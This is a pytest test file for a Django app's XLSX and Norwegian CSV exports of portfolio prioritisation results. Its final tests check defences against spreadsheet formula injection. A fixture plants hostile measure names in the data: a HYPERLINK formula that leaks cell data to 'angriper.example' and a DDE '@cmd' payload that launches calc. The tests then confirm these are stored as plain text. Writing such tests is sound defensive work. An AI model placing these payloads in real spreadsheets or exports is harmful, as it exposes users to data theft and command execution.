"""Exports: the workbook opens with openpyxl and holds the page's numbers; CSV is for Norwegian Excel."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from prioritet.portfolio import exports, imports, services
from prioritet.portfolio.analysis import FRONTIER_STEPS, frontier_levels
from prioritet.tabular import parse_bytes, sheets


@pytest.fixture
def scenarios(worked, portfolio, leader):
    services.create_optimal_scenario(portfolio, leader, name="Optimalt")
    services.create_scenario(portfolio, leader, name="Minimum", kind="political", measures=[worked["M1"]])


def sheet_rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_workbook_holds_results_frontier_and_scenarios(scenarios, portfolio, leader, login_client):
    response = login_client(leader).get(reverse("portfolio:export_xlsx", args=[portfolio.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Om eksporten",
        "Resultater",
        "Tiltak",
        "Budsjettnivåer",
        "Scenarioer",
        "Utvalg per scenario",
    ]

    results = sheet_rows(book["Resultater"])
    header = results[0]
    assert header[:3] == ["Id", "Tiltak", "Type"]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in results[1:]}
    assert by_id["M4"]["Kostnad (kr per år)"] == 800_000
    assert by_id["M4"]["Verdi"] == pytest.approx(0.75)
    assert by_id["M4"]["I optimalt utvalg"] == "ja"
    assert by_id["M2"]["I optimalt utvalg"] == "nei"
    assert by_id["M1"]["Kjerneindeks"] == 1.0
    assert by_id["M1"]["Robusthet"] == "alltid med"
    value_cell = book["Resultater"].cell(row=2, column=header.index("Verdi") + 1)
    assert value_cell.number_format == "0.000"
    assert book["Resultater"].cell(row=2, column=header.index("Kostnad (kr per år)") + 1).number_format == "#,##0"
    assert book["Resultater"].freeze_panes == "A2"

    frontier = sheet_rows(book["Budsjettnivåer"])
    assert len(frontier) == 1 + len(frontier_levels(1_500_000, 4_800_000, 3_000_000, FRONTIER_STEPS))
    budget_col = frontier[0].index("Budsjett: Kostnad (kr per år)")
    assert [row[budget_col] for row in frontier[1:]].count(3_000_000) == 1

    summary = sheet_rows(book["Scenarioer"])
    assert [row[0] for row in summary[1:]] == ["Optimalt", "Minimum"]
    assert summary[1][summary[0].index("Verdi")] == pytest.approx(2.375)
    assert summary[2][summary[0].index("Brukt: Kostnad (kr per år)")] == 1_500_000

    selection = sheet_rows(book["Utvalg per scenario"])
    assert selection[0][-2:] == ["Optimalt", "Minimum"]


def test_the_measures_sheet_is_the_import_format(scenarios, portfolio, political_portfolio, director):
    """What is exported as measures can be read by the command line's reader and imported again."""
    (table,) = exports.tables(portfolio, only="measures")
    data = exports.csv_bytes(table)
    measures = parse_bytes(data, "eksport.csv").measures
    assert measures.ids == ("M1", "M2", "M3", "M4", "M5", "M6")
    assert measures.requires[4] == "M4"
    assert measures.mandatory.tolist() == [True, False, False, False, False, False]
    assert measures.resources["cost_nok"].tolist() == [1_500_000, 1_200_000, 600_000, 800_000, 200_000, 500_000]
    preview = imports.preview(political_portfolio, data, "eksport.csv")
    assert preview.ok
    services.import_measures(political_portfolio, director, preview)
    assert political_portfolio.measures.get(code="M1").legal_basis == "Helse- og omsorgstjenesteloven § 4-1"


def test_csv_is_utf8_with_bom_semicolons_and_decimal_comma(scenarios, portfolio, leader, login_client):
    response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + "?table=results")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8")), delimiter=";"))
    header = rows[0]
    assert header[:2] == ["Id", "Tiltak"]
    m6 = dict(zip(header, next(r for r in rows if r[0] == "M6"), strict=True))
    assert m6["Verdi"] == "0,375"
    assert m6["Kostnad (kr per år)"] == "500000"
    # The unit only repeats the label: «Årsverk», not «Årsverk (årsverk)».
    assert m6["Årsverk"] == "0,625"
    assert m6["I optimalt utvalg"] == "ja"
    assert "\r\n" in raw.decode("utf-8")


@pytest.mark.parametrize("table", exports.TABLES)
def test_every_table_exports_as_csv(scenarios, portfolio, leader, login_client, table):
    response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + f"?table={table}")
    assert response.status_code == 200
    assert table in response["Content-Disposition"]
    assert response.content.decode("utf-8-sig").count("\n") >= 2


def test_csv_numbers():
    assert sheets.csv_number(1_500_000.0) == "1500000"
    assert sheets.csv_number(0.375) == "0,375"
    assert sheets.csv_number(2) == "2"
    assert sheets.csv_number(1 / 3) == "0,333333"


def test_an_empty_portfolio_exports_empty_tables(portfolio, leader, login_client):
    response = login_client(leader).get(reverse("portfolio:export_xlsx", args=[portfolio.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert sheet_rows(book["Resultater"])[1:] == []
    response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + "?table=nonsense")
    assert "results" in response["Content-Disposition"]


FORMULA = '=HYPERLINK("http://angriper.example/?x="&A1,"Klikk")'


@pytest.fixture
def hostile(worked, portfolio, leader):
    """Measure and scenario names that a spreadsheet would run as formulas if exported as typed."""
    measure = worked["M6"]
    measure.name = FORMULA
    measure.save()
    services.create_scenario(portfolio, leader, name="+SUM(1;1)", kind="political", measures=[worked["M1"]])
    m5 = worked["M5"]
    m5.name = "@cmd|' /C calc'!A0"
    m5.save()


def test_an_xlsx_export_writes_user_text_as_strings_never_formulas(hostile, portfolio, leader, login_client):
    response = login_client(leader).get(reverse("portfolio:export_xlsx", args=[portfolio.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    names = [row[1] for row in sheet_rows(book["Resultater"])[1:]]
    assert FORMULA in names
    assert "@cmd|' /C calc'!A0" in names
    assert "+SUM(1;1)" in sheet_rows(book["Utvalg per scenario"])[0]


@pytest.mark.parametrize("table", ["results", "measures", "selection"])
def test_a_csv_export_puts_an_apostrophe_before_text_that_would_start_a_formula(
    hostile, portfolio, leader, login_client, table
):
    response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + f"?table={table}")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    if table == "selection":
        assert "'+SUM(1;1)" in rows[0]


def test_negative_numbers_in_a_csv_export_stay_numbers():
    table = exports.Table("t", "T", [exports.Column("Navn"), exports.Column("Beløp", "amount")], [["-1 tiltak", -2.5]])
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'-1 tiltak", "-2,5"]
